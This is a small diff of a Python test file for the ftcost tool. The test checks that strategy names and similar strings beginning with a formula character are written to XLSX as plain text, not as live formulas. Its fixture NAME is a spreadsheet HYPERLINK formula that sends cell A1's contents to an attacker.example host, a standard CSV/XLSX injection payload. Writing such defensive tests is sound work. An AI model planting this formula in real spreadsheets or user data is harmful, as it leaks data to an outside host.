@@ -5,15 +5,16 @@ A strategy name, a catalog's source, a model id or a notice that starts with
 a string cell (never a formula) in the XLSX; ftcost's own formulas stay live
 and numbers stay numbers.
 """
+
 from __future__ import annotations
 
 import csv
 import io
 import json
 
+import fuzz_support as fz
 import pytest
 
-import fuzz_support as fz
 from ftcost.render.cells import is_formula_like, safe_row, spreadsheet_text
 
 NAME = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
@@ -51,16 +52,16 @@ baseline: {q(PLUS)}
 strategies:
   - name: {q(PLUS)}
     type: prompt
-    model: {q('evilco/' + MODEL)}
+    model: {q("evilco/" + MODEL)}
     request: {{prompt_tokens: 300, completion_tokens: 5}}
   - name: {q(NAME)}
     type: fine_tuned
-    model: {q('evilco/' + MODEL)}
+    model: {q("evilco/" + MODEL)}
     request: {{prompt_tokens: 20, completion_tokens: 5}}
     training: {{tokens: 100000, epochs: 2}}
   - name: {q(AT)}
     type: prompt
-    model: {q('evilco/' + MODEL)}
+    model: {q("evilco/" + MODEL)}
     batch_share: 0.5
     request: {{prompt_tokens: 200, completion_tokens: 5}}
 """
